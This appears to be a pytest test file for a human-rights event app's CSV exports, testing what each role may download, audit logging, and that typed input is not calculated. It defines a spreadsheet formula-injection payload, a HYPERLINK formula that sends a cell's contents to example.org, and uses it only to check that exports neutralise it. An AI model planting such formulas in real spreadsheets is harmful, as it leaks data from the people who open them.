"""Tables to take away: each role gets what it may see and no more, nothing in them is calculated, and all is noted."""

import csv
import io
from contextlib import contextmanager

import pytest
from sqlalchemy import event, select

from tests import factories, pages
from tests.review import steps
from webapp.access.permissions import Role
from webapp.applications import answers
from webapp.applications.models import Application, ApplicationStatus
from webapp.core.audit import AuditEntry
from webapp.core.transaction import transaction
from webapp.desk.answers import LABELS
from webapp.editions.models import CountrySession, CountrySessionStatus
from webapp.extensions import db
from webapp.participants.models import Appearance, OrganisationKind
from webapp.programme.models import Panellist
from webapp.review import recusals

PAGE = "/desk/editions/44/exports"
FORMULA = '=HYPERLINK("https://example.org/?"&A1)'


def token_of(client) -> str:
    return pages.token_in(client.get("/desk?lang=en").text)


def take(client, which: str, number: int = 44, token: str = ""):
    """The table, as the button of its page takes it away."""
    token = token or token_of(client)
    reply = client.post(f"/desk/editions/{number}/exports/{which}?lang=en", data={"csrf_token": token})
    db.session.rollback()
    return reply


def table(client, which: str) -> tuple[list[str], list[list[str]]]:
    """Its heads and its rows."""
    reply = take(client, which)
    assert (reply.status_code, reply.mimetype) == (200, "text/csv")
    text = reply.data.decode("utf-8-sig")
    heads, *rows = csv.reader(io.StringIO(text, newline=""), delimiter=";")
    return heads, rows


@pytest.fixture
def desk(app):
    return steps.coordinator(app)


@pytest.fixture
def rita():
    return steps.reviewer("rita")


# ---- All applications, for the coordinator ----


def test_the_coordinator_gets_every_answer_of_all_that_stand_as_sent(edition, desk):
    one = steps.application(edition, "Ligue\u202fpour les droits", needs="A ramp;\nand time")
    steps.application(edition, "Still writing", status=ApplicationStatus.DRAFT)
    steps.application(edition, "Taken back", status=ApplicationStatus.WITHDRAWN)
    steps.application(factories.edition(45), "Of another edition")
    heads, (row,) = table(desk, "applications")
    fields = (*answers.SEEN_BY_REVIEWERS, *answers.SEEN_BY_COORDINATOR)
    assert heads == ["Reference", "Sent (Europe/Zurich)", *(str(LABELS[field]) for field in fields)]
    assert dict(zip(["reference", "sent", *fields], row, strict=True)) == {
        "reference": one.reference,
        "sent": f"{one.sent_at.astimezone(edition.zone):%Y-%m-%d %H:%M}",
        "state": "Turkmenistan",
        "language": "French",
        "kind": "Civil society organisation",
        "organisation": "Ligue\u202fpour les droits",
        "scope": "In one country",
        "ecosoc": "No",
        "nhri_status": "",
        "work": "We defend detainees.",
        "themes": "Women and girls",
        "issues": "Prisons without doctors.",
        "contact_name": "Contactperson Zeta",
        "email": one.email,
        "phone": "'+228 90 11 22 33",
        "safely": "Only by Signal after dusk",
        "speaker": "Speaker Omega",
        "co_speakers": "Cospeaker Sigma",
        "needs": "A ramp;\nand time",
        "appearance": "Neither name nor organisation",
        "photographs": "No",
        "passport": "Yes",
        "visa": "Not known yet",
        "grant": "Yes",
        "departure_city": "Ultima Thule",
        "arrive_on": "2023-08-27",
        "leave_on": "2023-08-31",
        "need": "Needful Lambda",
        "other_funding": "Funder Kappa",
    }


def test_what_somebody_typed_is_not_calculated(edition, desk, app, rita):
    typed = dict.fromkeys(("work", "issues", "safely", "speaker", "need"), f"  {FORMULA}")
    made = steps.application(edition, FORMULA, **typed)
    steps.assign(made, rita)
    _heads, (all_of_it,) = table(desk, "applications")
    _heads, (read,) = table(steps.browser(app, rita), "own-review")
    for row, count in ((all_of_it, 6), (read, 3)):
        assert [cell.lstrip("' ") for cell in row if "HYPERLINK" in cell] == [FORMULA] * count
        assert [cell for cell in row if cell.lstrip()[:1] in ("=", "+", "-", "@")] == []


def test_the_page_says_what_is_in_it_and_that_it_can_endanger_people(edition, desk):
    said = pages.text_of(desk.get(f"{PAGE}?lang=en").text)
    assert "This file can endanger people. It says who applied, whatever they chose for the public" in said
    for field in answers.SEEN_BY_COORDINATOR:
        assert str(LABELS[field]) in said
    assert f'href="{PAGE}?lang=en"' in desk.get(f"{steps.LIST}?lang=en").text


# ---- What a reviewer has to read ----


def test_a_reviewer_gets_what_they_read_and_their_own_scores(app, edition, rita):
    for text in ("Reach", "Expertise"):
        steps.criterion(text)
    sam = steps.reviewer("sam")
    scored, waits, hidden, taken_back = (
        steps.application(edition, name) for name in ("Scored", "Waits", "Hidden", "Taken back")
    )
    steps.assign(waits, rita)
    for made in (scored, hidden, taken_back):
        steps.assessed(made, rita, 4, 2, comment="Mine; \nshort")
    for made in (scored, waits):
        steps.assessed(made, sam, 5, 5, comment="Sam's own words")
    steps.assessed(steps.application(edition, "Of Sam alone"), sam, 5, 5)
    elsewhere = steps.application(factories.edition(45), "Of another edition")
    steps.assign(elsewhere, rita)
    recusals.recuse(44, rita.id, organisation="Hidden", by="test")
    with transaction() as session:
        session.get_one(Application, taken_back.id).status = ApplicationStatus.WITHDRAWN
    heads, rows = table(steps.browser(app, rita), "own-review")
    labels = [str(LABELS[field]) for field in answers.SEEN_BY_REVIEWERS]
    assert heads == [*labels, "Reach", "Expertise", "Your comment"]
    said = ["Turkmenistan", "French", "Civil society organisation"]
    more = ["In one country", "No", "", "We defend detainees.", "Women and girls", "Prisons without doctors."]
    assert rows == [
        [*said, "Waits", *more, "", "", ""],
        [*said, "Scored", *more, "4", "2", "Mine; \nshort"],
    ]


def test_nothing_that_reviewers_never_see_is_in_it(app, edition, rita):
    made = steps.application(edition)
    steps.assign(made, rita)
    text = take(steps.browser(app, rita), "own-review").data.decode()
    assert "Ligue pour les droits" in text
    assert [word for word in (*steps.SECRET_WORDS, "2023-08", made.reference, "either") if word in text] == []
    assert [field for field in answers.SEEN_BY_COORDINATOR if str(LABELS[field]) in text] == []


def test_a_coordinator_who_reads_gets_no_more_by_it_than_they_read(app, edition, desk):
    steps.application(edition)
    _heads, rows = table(desk, "own-review")
    assert rows == []


# ---- Panels ----


def test_the_panels_show_each_as_that_person_chose(edition, desk):
    first, second, third, last = edition.country_sessions
    factories.opening(first)
    chosen = {
        "Ana Rojas": ("Red de mujeres", OrganisationKind.CSO, Appearance.PUBLIC),
        "Ben Secret": ("Open House", OrganisationKind.COALITION, Appearance.ORGANISATION),
        "Cleo Secret": ("Hidden House", OrganisationKind.CSO, Appearance.NEITHER),
        "Dan Secret": ("Hidden Commission", OrganisationKind.NHRI, None),
        "Eve Secret": ("Hidden by wish", OrganisationKind.CSO, Appearance.PUBLIC),
    }
    for name, (organisation, kind, appearance) in chosen.items():
        factories.panellist(first, name, organisation, kind, appearance)
    factories.panellist(third, "=Fay", "Ligue", appearance=Appearance.PUBLIC)
    factories.panellist(last, "Not Held", "Gone", appearance=Appearance.PUBLIC)
    with transaction() as session:
        hidden = session.scalars(select(Panellist).where(Panellist.organisation == "Hidden by wish")).one()
        hidden.hidden_at = factories.NOW
        session.get_one(CountrySession, last.id).status = CountrySessionStatus.NOT_HELD
        timeless = session.get_one(CountrySession, third.id)
        timeless.starts_at = timeless.room = None
    heads, rows = table(desk, "panels")
    assert heads == [
        "State under Review",
        "Day",
        "Begins (Europe/Zurich)",
        "Room",
        "Place in the order",
        "Speaker",
    ]
    here = ["Turkmenistan", "2023-08-28", "10:00", "Room XXV"]
    assert rows == [
        [*here, "1", "Turkmenistan"],
        [*here, "2", "Ana Rojas, Red de mujeres"],
        [*here, "3", "Open House"],
        [*here, "4", "Speaker 1 (civil society)"],
        [*here, "5", "The National Human Rights Institution"],
        [*here, "6", "Speaker 2 (civil society)"],
        ["Cabo Verde", "", "", "", "1", "'=Fay, Ligue"],
    ]
    assert second.name("en") not in str(rows)  # nobody is on its panel


# ---- Any of them ----


@pytest.mark.parametrize(
    ("which", "name"),
    [
        ("applications", "Pre-sessions 44 applications.csv"),
        ("panels", "Pre-sessions 44 panels.csv"),
        ("own-review", "Pre-sessions 44 to read.csv"),
    ],
)
def test_each_is_a_file_that_names_nobody_and_is_kept_nowhere_between(edition, desk, which, name):
    reply = take(desk, which)
    assert reply.headers["Content-Disposition"] == f'attachment; filename="{name}"'
    assert (reply.headers["Content-Type"], reply.headers["Cache-Control"]) == (
        "text/csv; charset=utf-8",
        "no-store",
    )
    assert take(desk, which, number=45).status_code == 404
    assert desk.get(f"{PAGE}/{which}").status_code == 405  # nothing is taken by following a link


def test_who_took_what_and_when_is_noted_by_ids(app, edition, rita):
    person = factories.staff(Role.COORDINATOR)
    for which in ("applications", "panels", "own-review"):
        take(steps.browser(app, person), which)
    take(steps.browser(app, rita), "own-review")
    noted = select(AuditEntry).where(AuditEntry.verb.startswith("export-")).order_by(AuditEntry.id)
    entries = db.session.scalars(noted).all()
    assert [(entry.by, entry.verb, entry.object_kind, entry.object_id) for entry in entries] == [
        (f"staff:{person.id}", "export-applications", "edition", "44"),
        (f"staff:{person.id}", "export-panels", "edition", "44"),
        (f"staff:{person.id}", "export-own-review", "edition", "44"),
        (f"staff:{rita.id}", "export-own-review", "edition", "44"),
    ]
    assert {entry.at for entry in entries} == {factories.NOW}


@pytest.mark.parametrize(
    ("role", "statuses"),
    [(Role.REVIEWER, [404, 404, 200]), (Role.MODERATOR, [404] * 3), (Role.DOOR, [404] * 3)],
)
def test_for_everybody_else_it_is_not_there_and_nothing_is_noted(app, edition, role, statuses):
    browser = steps.browser(app, factories.staff(role))
    assert [
        take(browser, which).status_code for which in ("applications", "panels", "own-review")
    ] == statuses
    assert browser.get(PAGE).status_code == 404
    noted = db.session.scalars(select(AuditEntry.verb).where(AuditEntry.verb.startswith("export-"))).all()
    assert noted == ["export-own-review"] * statuses.count(200)


@contextmanager
def statements():
    """How many SQL statements are executed meanwhile."""
    made = []

    def note(_connection, _cursor, statement, *_more):
        made.append(statement)

    event.listen(db.engine, "before_cursor_execute", note)
    try:
        yield made
    finally:
        event.remove(db.engine, "before_cursor_execute", note)


def test_each_takes_as_many_statements_for_many_as_for_few(edition, desk, app, rita):
    steps.criterion()
    browsers = {"applications": desk, "panels": desk, "own-review": steps.browser(app, rita)}

    def count(several: int) -> dict[str, int]:
        for number in range(several):
            here = edition.country_sessions[number % 4]
            steps.assessed(steps.application(edition, f"Organisation {number}", here.state), rita, 3)
            factories.panellist(here, f"Speaker {number} of {several}", f"Organisation {number}")
        found = {}
        for which, browser in browsers.items():
            token = token_of(browser)
            with statements() as made:
                reply = take(browser, which, token=token)
            assert reply.data.count(b"Organisation ") >= several
            found[which] = len(made)
        return found

    few = count(4)
    assert count(20) == few
    assert max(few.values()) < 15
